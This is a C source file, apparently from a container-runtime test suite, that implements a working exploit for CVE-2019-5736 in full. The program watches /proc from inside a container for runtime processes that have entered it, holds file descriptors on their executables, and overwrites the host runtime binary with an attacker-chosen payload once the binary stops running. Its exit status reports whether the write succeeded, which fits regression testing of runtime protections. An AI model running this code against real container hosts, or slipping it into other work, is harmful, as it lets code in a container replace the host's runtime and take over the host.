/*
 * exe_attack: the CVE-2019-5736 attacker, run inside a container.
 *
 *   exe_attack [--seconds N] [--pid PID] [--payload STRING]
 *
 * For N seconds (default 5) it watches /proc for processes whose executable
 * is not its own and not a binary from the container (compared by device
 * and inode with /bin/busybox), e.g. a runtime process that entered the
 * container for `exec`, or the runtime binary re-executed through a
 * "#!/proc/self/exe" script.  With --pid it watches only that process.
 * It keeps an O_PATH fd on each such executable and keeps trying to reopen
 * it for writing through /proc/self/fd (this fails with ETXTBSY while the
 * binary runs, and succeeds once it has exited unless the runtime protected
 * itself); on success it overwrites the start of the file with the payload.
 * Prints "opened pid=P exe=PATH", "WROTE PATH" or "write PATH: ERROR" lines,
 * then "attack finished: opened=N wrote=M".
 * Exit status: 0 when nothing was written, 3 when the attack wrote a file.
 */
#define _GNU_SOURCE /* the helper rule in the Makefile builds without it */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 256

struct target {
    int fd;
    int done;
    dev_t dev;
    ino_t ino;
    char path[PATH_MAX];
};

static struct target targets[MAX_TARGETS];
static int n_targets;
static int n_wrote;

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int known_inode(const struct stat *st)
{
    for (int i = 0; i < n_targets; i++)
        if (targets[i].dev == st->st_dev && targets[i].ino == st->st_ino)
            return 1;
    return 0;
}

static void consider(pid_t pid, const struct stat *self_st, const struct stat *bb_st)
{
    char link[64];
    struct stat st;
    snprintf(link, sizeof(link), "/proc/%d/exe", (int)pid);
    if (stat(link, &st) < 0)
        return;
    if ((st.st_dev == self_st->st_dev && st.st_ino == self_st->st_ino) ||
        (bb_st && st.st_dev == bb_st->st_dev && st.st_ino == bb_st->st_ino))
        return;
    if (known_inode(&st) || n_targets >= MAX_TARGETS)
        return;
    int fd = open(link, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    struct target *t = &targets[n_targets++];
    t->fd = fd;
    t->done = 0;
    t->dev = st.st_dev;
    t->ino = st.st_ino;
    ssize_t n = readlink(link, t->path, sizeof(t->path) - 1);
    t->path[n < 0 ? 0 : n] = '\0';
    printf("opened pid=%d exe=%s\n", (int)pid, t->path);
    fflush(stdout);
}

static void try_write(struct target *t, const char *payload)
{
    char via[64];
    snprintf(via, sizeof(via), "/proc/self/fd/%d", t->fd);
    int w = open(via, O_WRONLY | O_CLOEXEC);
    if (w < 0) {
        if (errno == ETXTBSY)
            return; /* still running: retry later */
        printf("write %s: open: %s\n", t->path, strerror(errno));
        t->done = 1;
        fflush(stdout);
        return;
    }
    ssize_t n = pwrite(w, payload, strlen(payload), 0);
    if (n > 0) {
        printf("WROTE %s\n", t->path);
        n_wrote++;
    } else {
        printf("write %s: %s\n", t->path, n < 0 ? strerror(errno) : "short write");
    }
    close(w);
    t->done = 1;
    fflush(stdout);
}

int main(int argc, char **argv)
{
    double seconds = 5;
    pid_t only_pid = 0;
    const char *payload = "#!/bin/sh\necho exe_attack was here\n";

    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
            seconds = atof(argv[++i]);
        else if (!strcmp(argv[i], "--pid") && i + 1 < argc)
            only_pid = atoi(argv[++i]);
        else if (!strcmp(argv[i], "--payload") && i + 1 < argc)
            payload = argv[++i];
        else {
            fprintf(stderr, "usage: exe_attack [--seconds N] [--pid PID] [--payload S]\n");
            return 1;
        }
    }

    struct stat self_st, bb_buf, *bb_st = NULL;
    if (stat("/proc/self/exe", &self_st) < 0) {
        perror("exe_attack: stat /proc/self/exe");
        return 1;
    }
    if (stat("/bin/busybox", &bb_buf) == 0)
        bb_st = &bb_buf;

    pid_t self = getpid();
    double deadline = now() + seconds;
    while (now() < deadline) {
        if (only_pid) {
            consider(only_pid, &self_st, NULL);
        } else {
            DIR *d = opendir("/proc");
            if (!d) {
                perror("exe_attack: opendir /proc");
                return 1;
            }
            struct dirent *de;
            while ((de = readdir(d))) {
                pid_t pid = atoi(de->d_name);
                if (pid > 0 && pid != self)
                    consider(pid, &self_st, bb_st);
            }
            closedir(d);
        }
        for (int i = 0; i < n_targets; i++)
            if (!targets[i].done)
                try_write(&targets[i], payload);
    }
    printf("attack finished: opened=%d wrote=%d\n", n_targets, n_wrote);
    return n_wrote ? 3 : 0;
}
